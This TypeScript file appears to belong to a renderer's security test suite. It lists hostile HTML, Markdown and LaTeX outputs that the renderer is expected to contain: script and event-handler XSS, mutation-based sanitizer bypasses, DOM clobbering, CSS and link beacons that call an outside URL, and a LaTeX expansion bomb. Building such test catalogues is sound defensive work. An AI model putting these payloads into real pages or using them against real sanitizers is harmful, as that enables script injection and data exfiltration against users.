import { mime } from "@vitrine/sdk";
import { outputOf } from "../../conformance/views/show.ts";
import { attacksOf, type HostileOutput } from "./draw-all.ts";

type Markup = (url: string, say: string) => string;

/** Markup that acts or asks, by every way that HTML has, and ways to get it past a sanitizer. */
const html: Record<string, Markup> = {
  script: (url, say) => `<script>${say}; fetch("${url}")</script>`,
  "img-onerror": (_, say) => `<img src="x:" onerror="${say}">`,
  "img-src": (url) => `<img src="${url}">`,
  srcset: (url) => `<img srcset="${url} 1x">`,
  picture: (url) => `<picture><source srcset="${url}"><img></picture>`,
  "svg-onload": (_, say) => `<svg onload="${say}"></svg>`,
  "svg-script": (_, say) => `<svg><script>${say}</script></svg>`,
  "svg-image": (url) => `<svg width="9" height="9"><image href="${url}" width="9" height="9"/></svg>`,
  "svg-foreign": (url) => `<svg width="9" height="9"><foreignObject width="9" height="9"><img src="${url}"></foreignObject></svg>`,
  "svg-fe-image": (url) => `<svg width="9" height="9"><filter id="f"><feImage href="${url}"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>`,
  "svg-animate": (_, say) => `<svg><animate attributeName="x" onbegin="${say}" dur="1s"/></svg>`,
  "style-import": (url) => `<style>@import url("${url}");</style>`,
  "style-font": (url) => `<style>@font-face { font-family: f; src: url("${url}") } p { font-family: f }</style><p>a</p>`,
  "style-background": (url) => `<style>p { background: url("${url}") }</style><p>a</p>`,
  "style-escaped": (url) => `<style>b { --a: u\\72l("${url}"); background: var(--a) } i { background: \\75rl(${url}) }</style><b>b</b><i>i</i>`,
  "style-attribute": (url) => `<p style="background: url('${url}')">a</p>`,
  "style-image-set": (url) => `<p style="background: image-set('${url}' 1x)">a</p>`,
  "style-list": (url) => `<ul><li style="list-style-image: url('${url}')">a</ul>`,
  "style-content": (url) => `<style>p::before { content: url("${url}") }</style><p>a</p>`,
  "style-mask": (url) => `<p style="mask-image: url('${url}'); -webkit-mask-image: url('${url}')">a</p>`,
  "style-nested": (url) => `<style>@media all { @supports (color: red) { p { &, & { background: url("${url}") } } } }</style><p>a</p>`,
  "style-layer": (url) => `<style>@layer a { p { border: 9px solid; border-image-source: url("${url}") } } @container (width > 0) { p { background: url("${url}") } }</style><p>a</p>`,
  "style-broken-comment": (url) => `<style>/*</style><style>*/ p { background: url("${url}") } /*</style><p style="background: url('${url}')">a</p>`,
  "presentation-attribute": (url) => `<table background="${url}"><tr><td background="${url}">1</table><body background="${url}">`,
  iframe: (url) => `<iframe src="${url}"></iframe>`,
  "iframe-srcdoc": (url, say) => `<iframe srcdoc="<script>${say}</script><img src='${url}'>"></iframe>`,
  object: (url) => `<object data="${url}"></object>`,
  embed: (url) => `<embed src="${url}">`,
  base: (url) => `<base href="${url}"><img src="relative.png">`,
  stylesheet: (url) => `<link rel="stylesheet" href="${url}">`,
  preload: (url) => `<link rel="preload" as="image" href="${url}">`,
  "meta-refresh": (url) => `<meta http-equiv="refresh" content="0;url=${url}">`,
  "meta-policy": (url) => `<meta http-equiv="Content-Security-Policy" content="default-src *; img-src *"><img src="${url}">`,
  video: (url) => `<video src="${url}" poster="${url}" autoplay></video>`,
  audio: (url) => `<audio src="${url}" autoplay></audio>`,
  "media-source": (url) => `<video><source src="${url}"></video>`,
  "input-image": (url) => `<form><input type="image" src="${url}"></form>`,
  autofocus: (_, say) => `<input autofocus onfocus="${say}">`,
  details: (_, say) => `<details open ontoggle="${say}">a</details>`,
  "body-onload": (_, say) => `<body onload="${say}">`,
  "template-declared": (url, say) => `<div><template shadowrootmode="open"><img src="${url}" onerror="${say}"></template></div>`,
  "mutation-math": (url, say) => `<math><mtext><table><mglyph><style><img src="${url}" onerror="${say}"></style></mglyph></table></mtext></math>`,
  "mutation-form": (_, say) => `<form><math><mtext></form><form><mglyph><style></math><img src="x:" onerror="${say}">`,
  "mutation-noscript": (url, say) => `<noscript><p title="</noscript><img src=${url} onerror=${say}>">`,
  "mutation-comment": (_, say) => `<!--><img src="x:" onerror="${say}">-->`,
  "mutation-malignmark": (_, say) => `<form><math><mtext></form><form><malignmark><style></math><img src="x:" onerror="${say}">`,
  "mutation-svg-style": (_, say) => `<svg><style><a id="</style><img src='x:' onerror=&quot;${say}&quot;>"></a></style></svg>`,
  "mutation-template": (_, say) => `<template><style></template><img src="x:" onerror="${say}"></style>`,
  "mutation-annotation": (_, say) => `<math><annotation-xml encoding="text/html"><img src="x:" onerror="${say}"><style><img src="x:" onerror="${say}"></style></annotation-xml></math>`,
  "mutation-deep": (_, say) => `${"<div>".repeat(600)}<math><mtext><table><mglyph><style><img src="x:" onerror="${say}"></style>${"</div>".repeat(600)}`,
  "clobbered-names": (url, say) => `<img name="cookie"><img name="currentScript"><img name="createElement"><img name="vitrinePort"><a id="attributes"></a><img src="${url}" onerror="${say}">`,
};

/** What does nothing as it is, and comes alive when a sanitizer that only strips handlers and addresses writes what it parsed: the control is such a one. */
const mutations = new Set(["mutation-math", "mutation-form", "mutation-malignmark"]);

const withoutControl: Record<string, string> = {
  autofocus: "engines heed it in the page's own origin only",
  "mutation-svg-style": "these engines escape < in attributes when they write them, so that nothing comes alive",
  "mutation-deep": "these engines flatten what is nested too deep alike each time",
  "mutation-template": "what is in a template is inert until a script takes it out",
};

const htmlOutputs = Object.entries(html).map(([name, markup]): [string, HostileOutput] => {
  const excuse = withoutControl[name];
  return [name, { make: (url, say) => outputOf({ [mime.html]: markup(url, say) }), plain: { html: markup, naive: mutations.has(name) }, ...(excuse && { noControl: { chromium: excuse, firefox: excuse, webkit: excuse } }) }];
});

/** What acts only when a reader clicks, or looks a name up at most. */
const quiet: Record<string, Markup> = {
  "link-javascript": (_, say) => `<a href="javascript:${say}">a</a>`,
  "link-dns": (url) => `<a href="${url}">a</a><area href="${url}">`,
  "link-target": (url) => `<a href="${url}" target="_top" ping="${url}">a</a><base target="_top">`,
  "link-data": () => `<a href="data:text/html,<script>1</script>">a</a>`,
  "dns-prefetch": (url) => `<link rel="dns-prefetch" href="${url}"><meta http-equiv="x-dns-prefetch-control" content="on">`,
  preconnect: (url) => `<link rel="preconnect" href="${url}">`,
  manifest: (url) => `<link rel="manifest" href="${url}"><link rel="icon" href="${url}">`,
  "speculation-rules": (url) => `<script type="speculationrules">{"prefetch": [{"urls": ["${url}"], "eagerness": "immediate"}]}</script>`,
};

const onClick = "a reader would have to click";
const unheard = "it asks for no such thing in a frame";
const onClicks = { chromium: onClick, firefox: onClick, webkit: onClick };
/** Why nothing comes of it in an engine, though nothing is sealed. */
const quietControls: Record<string, NonNullable<HostileOutput["noControl"]>> = {
  "link-javascript": onClicks,
  "link-dns": onClicks,
  "link-target": onClicks,
  "link-data": onClicks,
  manifest: { chromium: unheard, firefox: unheard, webkit: unheard },
  "dns-prefetch": { webkit: unheard },
  "speculation-rules": { chromium: unheard, firefox: "it knows no speculation rules", webkit: "it knows no speculation rules" },
};

const quietOutputs = Object.entries(quiet).map(([name, markup]): [string, HostileOutput] => [
  name,
  { make: (url, say) => outputOf({ [mime.html]: markup(url, say) }), plain: { html: markup, by: ["dns", "tcp"] }, ...(quietControls[name] && { noControl: quietControls[name] }) },
]);

const ofMarkdown = (markup: Markup): HostileOutput => ({ make: (url, say) => outputOf({ [mime.markdown]: markup(url, say) }) });
const ofLatex = (markup: Markup): HostileOutput => ({ make: (url, say) => outputOf({ [mime.latex]: markup(url, say) }) });

export const markupAttacks = [
  ...attacksOf("F-html-", "HTML", Object.fromEntries([...htmlOutputs, ...quietOutputs])),
  ...attacksOf("F-markdown-", "Markdown", {
    "raw-html": ofMarkdown((url, say) => Object.values(html).map((markup) => markup(url, say)).join("\n\n")),
    image: ofMarkdown((url) => `![a](${url} "t")`),
    link: ofMarkdown((url, say) => `[b](javascript:${say}) <${url}> [c][d]\n\n[d]: ${url} "t"\n`),
    autolink: ofMarkdown((url) => `${url} www.sink.test`),
    table: ofMarkdown((url, say) => `| a |\n|---|\n| <img src="${url}" onerror="${say}"> |\n`),
    fence: ofMarkdown((url, say) => `\`\`\`"><img src="${url}" onerror="${say}">\nx\n\`\`\`\n`),
    math: ofMarkdown((url, say) => `$\\href{javascript:${say}}{a}$ $\\includegraphics{${url}}$ <span data-vitrine-math="display">\\includegraphics{${url}}<img src="${url}" onerror="${say}"></span>`),
  }),
  ...attacksOf("F-latex-", "LaTeX", {
    href: ofLatex((_, say) => `$\\href{javascript:${say}}{a}$`),
    url: ofLatex((url) => `$\\url{${url}} \\href{${url}}{a}$`),
    picture: ofLatex((url) => `$\\includegraphics{${url}}$`),
    text: ofLatex((url, say) => `$\\text{<img src="${url}" onerror="${say}">}$ <img src="${url}" onerror="${say}">`),
    class: ofLatex((_, say) => `$\\class{a" onclick="${say}}{x} \\id{b}{y} \\style{background:url(x)}{z} \\data{x=y}{w}$`),
    bomb: ofLatex(() => `$\\def\\a{\\a\\a}\\a$ ${"{".repeat(20_000)} $\\rule{9999em}{9999em}$`),
  }),
];
